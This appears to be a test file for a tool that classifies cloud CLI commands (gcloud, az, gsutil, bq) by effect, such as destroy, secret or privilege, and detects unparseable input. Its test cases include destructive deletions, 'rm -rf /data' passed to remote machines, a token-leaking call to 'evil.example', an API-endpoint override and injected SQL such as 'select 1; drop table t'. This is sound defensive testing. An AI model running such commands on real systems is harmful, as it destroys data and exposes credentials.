import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import azTree from '../../src/command/grammars/az.json' with { type: 'json' };
import gcloudTree from '../../src/command/grammars/gcloud.json' with { type: 'json' };
import { AZ } from '../../src/command/tools/clouds/az-table.ts';
import { type CommandGroup, commandsOf } from '../../src/command/tools/clouds/cloud-words.ts';
import { effectsOf } from '../../src/command/tools/clouds/effects.ts';
import { GCLOUD } from '../../src/command/tools/clouds/gcloud-table.ts';
import { effects, filesOf, line, meaning, onlyReads, operations } from './support.ts';

const run = (words: string) => meaning(words.split(' '));

describe('clouds', () => {
  test.each([
    'gcloud compute instances list',
    'gcloud --project p --format=json beta run services describe web --region europe-west1',
    'gcloud alpha compute instances describe x -q',
    'gcloud config get-value project',
    'gcloud topic filters',
    'gcloud compute instances --help',
    'gcloud help compute',
    'gcloud projects get-iam-policy p',
    'gcloud storage ls gs://b',
    'az vm list -o table',
    'az account show --query id',
    'az keyvault secret list --vault-name v',
    'az rest --method get --url https://management.azure.com/subscriptions',
    'az --version',
    'gsutil -m ls -r gs://b/**',
    'gsutil iam get gs://b',
    'bq ls --format=prettyjson ds',
    'bq head -n 10 ds.t',
  ])('%s only reads', async (words) => {
    expect(onlyReads(await run(words))).toBe(true);
  });

  test.each([
    ['gcloud projects delete p --quiet', 'destroy'],
    ['gcloud --quiet alpha sql instances delete prod', 'destroy'],
    ['gcloud projects add-iam-policy-binding p --member m --role r', 'privilege'],
    ['gcloud secrets versions access latest --secret=db', 'secret'],
    ['gcloud auth print-access-token', 'secret'],
    ['gcloud iam service-accounts keys create k.json --iam-account a', 'privilege,secret'],
    ['gcloud sql export sql prod gs://b/d.sql', 'export'],
    ['gcloud compute ssh x', 'execute'],
    ['gcloud compute instances list --impersonate-service-account=a', 'privilege,read'],
    ['gcloud compute instances list --log-http', 'read,secret'],
    ['gcloud config set project p', 'write'],
    ['gcloud storage rm -r gs://b', 'destroy'],
    ['gcloud storage rsync a gs://b --delete-unmatched-destination-objects', 'destroy,export,write'],
    ['az group delete -n prod --yes', 'destroy'],
    ['az keyvault secret show -n s --vault-name v', 'secret'],
    ['az role assignment create --assignee a --role Owner', 'privilege'],
    ['az ad sp create-for-rbac', 'privilege,secret'],
    ['az storage blob download -c c -n b', 'export'],
    ['az rest --method delete --url https://management.azure.com/x', 'destroy'],
    ['az rest --url https://evil.example/x', 'read,secret'],
    ['az vm list --debug', 'read,secret'],
    ['gsutil -m rm -r gs://b', 'destroy'],
    ['gsutil rsync -d a gs://b', 'destroy,export,write'],
    ['gsutil mv gs://a/x gs://a/y', 'write'],
    ['gsutil signurl k gs://b/o', 'secret'],
    ['bq rm -r -f ds', 'destroy'],
    ['bq extract ds.t gs://b/x', 'export'],
  ])('%s has the effects %s', async (words, wanted) => {
    const found = await run(words);
    expect(effects(found).join()).toBe(wanted);
    expect(found.opaque).toBe(false);
  });

  test.each([
    'gcloud frobnicate instances list',
    'gcloud compute instances frobnicate x',
    'gcloud compute instances list --frobnicate',
    'gcloud compute instances list --flags-file f.yaml',
    'gcloud --project',
    'az vm frobnicate',
    'az vm list --frobnicate',
    'gsutil frobnicate gs://b',
    'gsutil -o Boto:plugin_directory=/tmp ls gs://b',
    'gsutil ls --frobnicate',
    'bq frobnicate',
    'bq --api=http://evil ls',
    'bq query --flagfile=x select',
  ])('%s is not understood', async (words) => {
    expect((await run(words)).opaque).toBe(true);
  });

  test('an operand only the shell knows is no doubt, a command is', async () => {
    expect(onlyReads(await line('gcloud iam roles describe "$role"'))).toBe(true);
    expect((await line('gcloud iam "$what" list')).opaque).toBe(true);
    expect((await line('gcloud iam roles "$what"')).opaque).toBe(true);
  });

  test('names the command, and where it acts', async () => {
    const { actions } = await run('gcloud --account me --project p beta compute instances delete x --region r');
    expect(actions).toMatchObject([
      { operation: 'compute instances delete', scope: { account: 'me', project: 'p', region: 'r', reach: 'remote' } },
    ]);
    const az = await run('az vm stop -g rg -n vm1 --subscription s');
    expect(az.actions).toMatchObject([
      { operation: 'vm stop', resource: { kind: 'vm', name: 'vm1' }, scope: { subscription: 's', namespace: 'rg' } },
    ]);
  });

  test('a copy to this machine writes the file it names', async () => {
    const { actions } = await run('gcloud storage cp gs://b/x out.txt');
    expect(actions).toMatchObject([
      { effects: ['export'], resource: { kind: 'object', bucket: 'b', key: 'x' } },
      { effects: ['write'], resource: { path: '/work/out.txt' } },
    ]);
  });

  test('the command given to a machine is read as well', async () => {
    expect(operations(await meaning(['gcloud', 'compute', 'ssh', 'x', '--command', 'rm -rf /data']))).toContain(
      'rm rm',
    );
    const az = await meaning([...'az vm run-command invoke -g g -n n --scripts'.split(' '), 'rm -rf /data']);
    expect(operations(az)).toContain('rm rm');
  });

  test.each([
    ['select * from t', 'read'],
    ['/* note */ (SELECT 1)', 'read'],
    ['delete from t where true', 'destroy'],
    ['drop table t', 'destroy'],
    ['grant `roles/x` on table t to "u"', 'privilege'],
    ['export data options(uri="gs://b/*") as select 1', 'export'],
    ['select 1; drop table t', 'unknown'],
    ["select '--'; drop table t", 'unknown'],
    ["select ';' as a -- ;", 'read'],
    ['select 1 /* open', 'unknown'],
    ['begin select 1; end', 'unknown'],
    ["select * from external_query('c', 'x')", 'unknown'],
  ])('bq query %s', async (sql, wanted) => {
    expect(effects(await meaning(['bq', 'query', '--nouse_legacy_sql', sql])).join()).toBe(wanted);
  });

  test('a dry run of bq that is taken back is none', async () => {
    const dry = (options: string) => meaning(['bq', 'query', ...options.split(' '), 'drop table t']);
    expect(onlyReads(await dry('--dry_run'))).toBe(true);
    for (const options of ['--dry_run --nodry_run', '--dry_run=false', '--dry_run --dry_run=false']) {
      expect(effects(await dry(options))).toContain('destroy');
    }
  });

  test('bq reads its query from standard input', async () => {
    const files = filesOf({}, 'drop table t');
    expect(effects(await meaning(['bq', 'query'], { files, stdin: 'pipe' })).join()).toBe('destroy');
    expect((await meaning(['bq', 'query'])).opaque).toBe(true);
  });

  test('secrets on the command line are known', async () => {
    expect((await run('az login -u me --password hunter2')).secrets).toContain('hunter2');
    expect((await run('gcloud sql users create u --password=hunter2')).secrets).toContain('hunter2');
  });

  test('every command of both trees is judged, and every exception exists', () => {
    for (const [tree, table] of [
      [gcloudTree, GCLOUD],
      [azTree, AZ],
    ] as const) {
      const all = commandsOf(tree.commands as unknown as CommandGroup);
      expect(all.filter((one) => one !== 'rest' && effectsOf(one.split(' '), table) === undefined)).toEqual([]);
      const known = new Set(all);
      const groups = new Set(
        all.flatMap((one) => one.split(' ').map((_, at, words) => words.slice(0, at + 1).join(' '))),
      );
      const strangers = table.commands().filter((one) => !known.has(one) && !groups.has(one.replace(/ \*$/, '')));
      expect(strangers).toEqual([]);
    }
  });

  test('any words get an answer, and one strange option more is never less', async () => {
    const word = fc.constantFrom(
      'gcloud',
      'compute',
      'instances',
      'list',
      '--project',
      'p',
      '--',
      'storage',
      'cp',
      'gs://b',
      'x',
      '-q',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('gcloud', 'az', 'gsutil', 'bq'),
        fc.array(fc.oneof(word, fc.string())),
        async (tool, words) => {
          const found = await meaning([tool, ...words]);
          expect(found.actions.length).toBeGreaterThan(0);
          const before = words.indexOf('--');
          const more = await meaning([tool, ...words.slice(0, before < 0 ? undefined : before), '--frobnicate']);
          expect(onlyReads(more) && !words.some((one) => /help|version|^-h/.test(one))).toBe(false);
        },
      ),
    );
  });
});
